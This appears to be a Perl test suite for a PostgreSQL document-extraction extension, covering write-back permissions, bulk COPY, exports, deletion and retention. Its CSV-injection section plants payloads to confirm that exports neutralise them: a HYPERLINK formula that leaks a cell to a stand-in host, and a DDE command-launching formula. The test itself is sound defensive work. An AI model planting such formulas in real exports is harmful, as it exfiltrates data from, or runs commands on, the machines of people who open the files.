# The trigger form, exports, deletion and retention on a real cluster with
# its worker: write-back as a non-superuser inserting role, COPY of 1,000
# rows, xlsx read back and CSV parsed, delete_documents cascading,
# zero_retention leaving no bytes, and old rows cleaned up.
use strict;
use warnings;
use FindBin;
use lib $FindBin::RealBin;
use DxTest;
use JSON::PP;
use PostgreSQL::Test::Utils;
use Test::More;
use HTTP::Tiny;

my $srv = start_model_server(delay_ms => 0);
my $node = new_node('triggers', conf => "docextract.max_inflight = 32\n");
sub sq { return $node->safe_psql('postgres', $_[0]); }
my $pdf = fixture('invoice.pdf');
sq(qq{SELECT docextract.add_model('default', 'openai', '$srv->{url}/v1', 'test-model', NULL, '{"max_retries": 0}');
	CREATE ROLE app LOGIN; CREATE ROLE other LOGIN;
	CREATE TABLE public.invoices (id serial PRIMARY KEY, pdf bytea, extracted jsonb, state text);
	GRANT SELECT, INSERT, UPDATE ON public.invoices TO app; GRANT USAGE ON SEQUENCE public.invoices_id_seq TO app;
	CREATE TABLE public.fixture AS SELECT pg_read_binary_file('$pdf') AS pdf; GRANT SELECT ON public.fixture TO app;});
my $tid = sq(qq{SELECT docextract.create_system_template('invoice', '$DxTest::INVOICE_SCHEMA')});
sq(q{CREATE TRIGGER invoices_extract AFTER INSERT ON public.invoices FOR EACH ROW
	EXECUTE FUNCTION docextract.extract_document('invoice', 'pdf', 'extracted', 'state')});

# -- write-back as the inserting role (not a superuser) ----------------------------
$node->safe_psql('postgres', 'SET ROLE app; INSERT INTO public.invoices (pdf) SELECT pdf FROM public.fixture');
$node->poll_query_until('postgres', "SELECT state = 'completed' FROM public.invoices WHERE id = 1")
  or die 'no write-back';
my $row = decode_json(sq('SELECT extracted FROM public.invoices WHERE id = 1'));
is($row->{general}{total_amount}, 1469.06, 'the typed result is written back into the row');
is(scalar @{ $row->{table} }, 3, '... with its line items');
is(sq(q{SELECT x.owner FROM docextract.extractions x WHERE x.target_table = 'public.invoices'::regclass}), 'app',
	'the extraction belongs to the inserting role');

# a role that may insert but not update: the worker writes nothing for it
sq('GRANT SELECT, INSERT ON public.invoices TO other; GRANT USAGE ON SEQUENCE public.invoices_id_seq TO other;
	GRANT SELECT ON public.fixture TO other');
$node->safe_psql('postgres', 'SET ROLE other; INSERT INTO public.invoices (pdf) SELECT pdf FROM public.fixture');
# (Each status change has its write-back: wait for the last one, of 'completed'.)
$node->poll_query_until('postgres',
	q{SELECT status = 'completed' AND writeback_due IS NULL AND writeback_error IS NOT NULL
	    FROM docextract.extractions WHERE owner = 'other'::regrole})
  or die 'no write-back attempt';
is(sq(q{SELECT status || ': ' || writeback_error FROM docextract.extractions WHERE owner = 'other'::regrole}),
	'completed: permission denied for table invoices', 'no UPDATE right: completed, nothing written, and why');

# a key written in the inserting session's DateStyle (04/03/2024, DMY) must
# not be read back by the worker as another date (April 3, in MDY): the
# result goes to its own row, never to the decoy
sq(q{CREATE TABLE public.dated (d date PRIMARY KEY, pdf bytea, extracted jsonb, state text);
	GRANT SELECT, INSERT, UPDATE ON public.dated TO app;
	INSERT INTO public.dated (d) VALUES ('2024-04-03');
	CREATE TRIGGER dated_extract AFTER INSERT ON public.dated FOR EACH ROW
	  EXECUTE FUNCTION docextract.extract_document('invoice', 'pdf', 'extracted', 'state');});
$node->safe_psql('postgres', q{SET ROLE app; SET DateStyle = 'SQL, DMY';
	INSERT INTO public.dated (d, pdf) SELECT '2024-03-04'::date, pdf FROM public.fixture});
$node->poll_query_until('postgres', q{SELECT status = 'completed' AND writeback_due IS NULL
	FROM docextract.extractions WHERE target_table = 'public.dated'::regclass})
  or die 'the dated row was never written back';
is(sq(q{SELECT string_agg(d || ':' || coalesce(state, '-'), ' ' ORDER BY d) FROM public.dated}),
	'2024-03-04:completed 2024-04-03:-', 'a date key from a DMY session is written back to its own row');
is(sq('SELECT count(*) FROM public.invoices WHERE id = 2 AND extracted IS NULL AND state IS NULL'), '1',
	"... the row is untouched: the worker cannot write where the submitter cannot");

# a row deleted before completion is no error
# (The answer is held until the row is gone; then the completed write-back is awaited.)
server_script($srv, { hold => 'deleted' });
$node->safe_psql('postgres', 'SET ROLE app; INSERT INTO public.invoices (pdf) SELECT pdf FROM public.fixture');
wait_inflight($srv, 1);
sq('DELETE FROM public.invoices WHERE id = 3');
server_release($srv, 'deleted');
$node->poll_query_until('postgres',
	q{SELECT status = 'completed' AND writeback_due IS NULL
	    FROM docextract.extractions x JOIN docextract.documents d ON d.id = x.document_id
	   WHERE d.filename = 'invoices/3'}) or die 'deleted row: extraction did not complete';
is(sq(q{SELECT (writeback_error IS NULL)::text || ' ' || (docextract.get_result(x.id)->'data' IS NOT NULL)::text
	  FROM docextract.extractions x JOIN docextract.documents d ON d.id = x.document_id
	   WHERE d.filename = 'invoices/3'}), 'true true', 'a row deleted before completion: completed, no error, result kept');

# -- COPY of 1,000 rows: 1,000 extractions in that one transaction -----------------
my $hex = unpack('H*', slurp_file($pdf));
my $copy = "$PostgreSQL::Test::Utils::tmp_check/invoices.copy";
open(my $fh, '>', $copy) or die;
print $fh "\\\\x$hex\n" for 1 .. 1000;
close $fh;
chmod 0644, $copy;
my $before = sq('SELECT count(*) FROM docextract.extractions');
sq("BEGIN; COPY public.invoices (pdf) FROM '$copy'; SELECT count(*) FROM docextract.extractions; COMMIT;");
is(sq('SELECT count(*) FROM docextract.extractions') - $before, 1000, 'COPY of 1,000 rows enqueued 1,000 extractions');
$node->poll_query_until('postgres', q{SELECT count(*) = 1000 FROM public.invoices WHERE id > 3 AND state = 'completed'
	AND (extracted->'general'->>'total_amount')::numeric = 1469.06}) or die 'the COPY did not complete';
pass('all 1,000 rows got their result written back');

# -- exports ---------------------------------------------------------------------
my @ids = split /\n/, sq(q{SELECT x.id FROM docextract.extractions x JOIN docextract.documents d ON d.id = x.document_id
	WHERE d.filename IN ('invoices/1', 'invoices/4') ORDER BY d.filename});
my $arr = "ARRAY['$ids[0]', '$ids[1]']::uuid[]";
my $json = decode_json(sq("SELECT convert_from(docextract.export($arr), 'UTF8')"));
is_deeply([ map { $_->{extraction_id} } @$json ], \@ids, 'json: get_result() of each, in order');

my $csv = sq("SELECT convert_from(docextract.export($arr, 'csv'), 'UTF8')");
my @lines = split /\r\n/, $csv;
is($lines[0], 'extraction_id,document_id,invoice_number,invoice_date,due_date,currency,paid,subtotal,total_amount,description,quantity,amount',
	'csv: a header of the general fields then the line-item columns, by position');
is(scalar @lines, 1 + 3 + 3, 'csv: one row per line item');
like($lines[1], qr/^$ids[0],[0-9a-f-]{36},INV-2026-0042,2026-03-14,2026-04-13,EUR,false,1234\.5,1469\.06,"Steel widgets, boxed",2,200$/,
	'csv: general fields repeated, a comma-holding value quoted (RFC 4180)');

# a value with a quote and a line break, as approve() could set it
sq(q{UPDATE docextract.results SET data = jsonb_set(data, '{general,invoice_number}', to_jsonb(E'A "B"\\nC'::text))
	WHERE extraction_id = '} . $ids[0] . q{'});
$csv = sq("SELECT convert_from(docextract.export(ARRAY['$ids[0]']::uuid[], 'csv'), 'UTF8')");
like($csv, qr/,"A ""B""\nC",/, 'csv: quotes doubled, line break inside quotes');

# Many at once (the template and values must outlive the reads that found them)
$csv = sq(q{SELECT convert_from(docextract.export((SELECT array_agg(id) FROM (
	SELECT x.id FROM docextract.extractions x JOIN docextract.documents d ON d.id = x.document_id
	 WHERE d.filename ~ '^invoices/' AND x.status = 'completed' ORDER BY d.created_at LIMIT 300) s), 'csv'), 'UTF8')});
@lines = split /\r\n/, $csv;
is(scalar @lines, 1 + 300 * 3, 'csv of 300 extractions: 900 line items');
is(scalar(grep { /,1469\.06,"?[A-Z]/ } @lines), 900, '... each with its general fields and its line');

my $xlsx_file = "$PostgreSQL::Test::Utils::tmp_check/export.xlsx";
my $xlsx = sq("SELECT encode(docextract.export($arr, 'xlsx'), 'hex')");
open($fh, '>:raw', $xlsx_file) or die;
print $fh pack('H*', $xlsx);
close $fh;
my $sheet = decode_json(`/usr/bin/python3 $DxTest::root/test/read_xlsx.py $xlsx_file`);
is(scalar @$sheet, 1 + 6, 'xlsx: a header and one row per line item');
is($sheet->[0]{C}, 'invoice_number', 'xlsx: header cells');
is($sheet->[4]{I}, 1469.06, 'xlsx: a number cell');
is($sheet->[4]{G}, JSON::PP::false, 'xlsx: a boolean cell');
is($sheet->[4]{D}{serial}, 46095, 'xlsx: a date cell (2026-03-14 as a date serial, date style)');

# a new version: three fields mapped to QuickBooks columns, due_date dropped
sq(qq{SELECT docextract.update_template(id,
	jsonb_set(jsonb_set(jsonb_set(schema_definition #- '{general_part,due_date}',
	  '{general_part,invoice_number,qbo_mapping}', '"InvoiceNo"'),
	  '{general_part,invoice_date,qbo_mapping}', '"InvoiceDate"'),
	  '{general_part,total_amount,qbo_mapping}', '"Total"'), prompt_set)
	FROM docextract.templates WHERE id = '$tid'});
my $qbo = sq("SELECT convert_from(docextract.export($arr, 'quickbooks_csv'), 'UTF8')");
@lines = split /\r\n/, $qbo;
is($lines[0], 'InvoiceNo,InvoiceDate,Total', 'quickbooks_csv: the qbo_mapping columns of the latest version (unified)');
is($lines[4], 'INV-2026-0042,03/14/2026,1469.06', 'quickbooks_csv: MM/DD/YYYY dates');
$csv = sq("SELECT convert_from(docextract.export($arr, 'csv'), 'UTF8')");
unlike((split /\r\n/, $csv)[0], qr/due_date/, 'unified: a field the latest version dropped is left out');

like(($node->psql('postgres', "SELECT docextract.export($arr, 'pdf')"))[2], qr/unknown export format "pdf"/, 'an unknown format');
like(($node->psql('postgres', "SET ROLE other; SELECT docextract.export($arr)"))[2], qr/extraction $ids[0] does not exist/,
	"another role's extraction cannot be exported");
is(sq("SELECT count(*) || ' ' || min(line_number) || ' ' || max((item->>'amount')::numeric) FROM docextract.result_rows('$ids[1]')"),
	'3 1 909.5', 'result_rows: one row per line item');

# -- formulas from a document never run in a spreadsheet (CSV injection) ---------------------
# The model reads what the document says; an attacker writes the document.
my $latest = sq("SELECT id FROM docextract.templates WHERE group_id = (SELECT group_id FROM docextract.templates WHERE id = '$tid')
	ORDER BY version DESC LIMIT 1");
server_script($srv, { answer => {
	general => { invoice_number => '=HYPERLINK("http://evil.example/?"&A1,"Click")', invoice_date => '2026-03-14',
		currency => 'EUR', paid => JSON::PP::false, subtotal => -12.5, total_amount => '-7' },
	table => [ { description => "\@SUM(1+1)*cmd|' /C calc'!A0", quantity => 1, amount => -5 },
		{ description => '+1+2', quantity => 1, amount => 1 }, { description => '-2+3', quantity => 1, amount => 1 } ] } });
my $evil_doc = sq("SET ROLE app; SELECT docextract.add_document('evil.pdf', (SELECT pdf FROM public.fixture))");
my $evil = sq("SET ROLE app; SELECT docextract.extract_document('$evil_doc', '$latest')");
wait_for_status($node, $evil, 'completed');
# a correction (approve() or an UPDATE) may start a value with a tab or a CR
sq(qq{UPDATE docextract.results SET data = jsonb_set(data, '{table,2,description}', to_jsonb(E'\\t=1+1'::text))
	WHERE extraction_id = '$evil'});
$csv = sq("SET ROLE app; SELECT convert_from(docextract.export(ARRAY['$evil']::uuid[], 'csv'), 'UTF8')");
@lines = split /\r\n/, $csv;
like($lines[1], qr/^$evil,[0-9a-f-]{36},"'=HYPERLINK\(""http:\/\/evil\.example\/\?""&A1,""Click""\)",2026-03-14,EUR,false,-12\.5,-7,'\@SUM\(1\+1\)\*cmd\|' \/C calc'!A0,1,-5$/,
	'csv: a formula from the model gets a leading quote; signed numbers stay numbers');
like($lines[2], qr/,'\+1\+2,1,1$/, "csv: '+' first: neutralised");
like($lines[3], qr/,'\t=1\+1,1,1$/, "csv: a tab first: neutralised");
$qbo = sq("SET ROLE app; SELECT convert_from(docextract.export(ARRAY['$evil']::uuid[], 'quickbooks_csv'), 'UTF8')");
like((split /\r\n/, $qbo)[1], qr/^"'=HYPERLINK\(.*\)",03\/14\/2026,-7$/, 'quickbooks_csv: neutralised too');
$xlsx = sq("SET ROLE app; SELECT encode(docextract.export(ARRAY['$evil']::uuid[], 'xlsx'), 'hex')");
open($fh, '>:raw', $xlsx_file) or die;
print $fh pack('H*', $xlsx);
close $fh;
$sheet = decode_json(`/usr/bin/python3 $DxTest::root/test/read_xlsx.py $xlsx_file`);
is($sheet->[1]{C}, '=HYPERLINK("http://evil.example/?"&A1,"Click")', 'xlsx: the value is kept, as a text cell');
unlike(`/usr/bin/python3 -c "import sys, zipfile; print(zipfile.ZipFile(sys.argv[1]).read('xl/worksheets/sheet1.xml').decode())" $xlsx_file`,
	qr/<f>|<f /, 'xlsx: no cell is a formula');

# -- deletion and zero retention ---------------------------------------------------------
my $doc = sq("SET ROLE app; SELECT docextract.add_document('del.pdf', (SELECT pdf FROM public.fixture))");
my $child = sq(qq{INSERT INTO docextract.documents (filename, content_type, size_bytes, sha256, page_count, content, parent_id, page_start, page_end, owner)
	SELECT 'del-p1.pdf', content_type, size_bytes, sha256, 1, content, id, 1, 1, owner FROM docextract.documents WHERE id = '$doc' RETURNING id});
my $e = sq("SET ROLE app; SELECT docextract.extract_document('$doc', '$tid')");
wait_for_status($node, $e, 'completed');
like(($node->psql('postgres', "SET ROLE other; SELECT docextract.delete_documents(ARRAY['$doc']::uuid[])"))[2],
	qr/document $doc does not exist/, "another role cannot delete it");
is(sq("SET ROLE app; SELECT docextract.delete_documents(ARRAY['$doc']::uuid[])"), '2', 'delete_documents: the document and its sub-document');
is(sq(qq{SELECT count(*) FILTER (WHERE content IS NULL AND text IS NULL AND deleted_at IS NOT NULL)
	FROM docextract.documents WHERE id IN ('$doc', '$child')}), '2', '... bytes and text gone, marked deleted');
is(sq("SELECT count(*) FROM docextract.results WHERE extraction_id = '$e'"), '0', '... its results gone');
like(($node->psql('postgres', "SET ROLE app; SELECT docextract.extract_document('$doc', '$tid', '{\"force\": true}')"))[2],
	qr/document $doc was deleted/, 'a deleted document cannot be extracted');

$doc = sq("SET ROLE app; SELECT docextract.add_document('zero.pdf', (SELECT pdf FROM public.fixture))");
$e = sq("SET ROLE app; SELECT docextract.extract_document('$doc', '$tid', '{\"zero_retention\": true}')");
wait_for_status($node, $e, 'completed');
is(sq("SELECT (content IS NULL AND text IS NULL)::text || ' ' || page_count FROM docextract.documents WHERE id = '$doc'"),
	'true 1', 'zero_retention: no bytes and no text once done, the metadata kept');
is(json_of(sq("SELECT docextract.get_result('$e')"))->{data}{general}{total_amount}, 1469.06, '... and the result kept');

# -- retention: the worker removes old ended extractions and settled events ----------------
sq(q{UPDATE docextract.extractions SET completed_at = now() - interval '2 days' WHERE id IN (SELECT id FROM docextract.extractions LIMIT 700);
	UPDATE docextract.events SET created_at = now() - interval '2 days'});
# One more ended as long ago, whose write-back is still due (far ahead, so
# that the write-back worker leaves it): kept until written back.
my $due = sq(q{UPDATE docextract.extractions SET completed_at = now() - interval '2 days',
	writeback_due = now() + interval '1 year'
	WHERE id = (SELECT id FROM docextract.extractions WHERE target_table IS NOT NULL
	AND completed_at > now() - interval '1 day' LIMIT 1) RETURNING id});
my $total = sq('SELECT count(*) FROM docextract.extractions');
sq(q{ALTER SYSTEM SET docextract.retention = '1d'; ALTER SYSTEM SET docextract.poll_interval = '100ms'; SELECT pg_reload_conf()});
$node->poll_query_until('postgres', 'SELECT count(*) = 0 FROM docextract.events') or die 'events not cleaned';
$node->poll_query_until('postgres', "SELECT count(*) <= $total - 700 FROM docextract.extractions") or die 'extractions not cleaned';
is(sq('SELECT count(*) FROM docextract.extractions'), $total - 700,
	'retention: 700 old extractions and every old event removed, in batches');
is(sq("SELECT count(*) FROM docextract.extractions WHERE id = '$due'"), '1',
	'... not one whose write-back is still due');
is(sq("SELECT count(*) FROM docextract.results r LEFT JOIN docextract.extractions x ON x.id = r.extraction_id WHERE x.id IS NULL"),
	'0', '... with their results');
cmp_ok(sq('SELECT count(*) FROM docextract.credit_ledger'), '>', 0, '... the credit ledger kept');

done_testing();
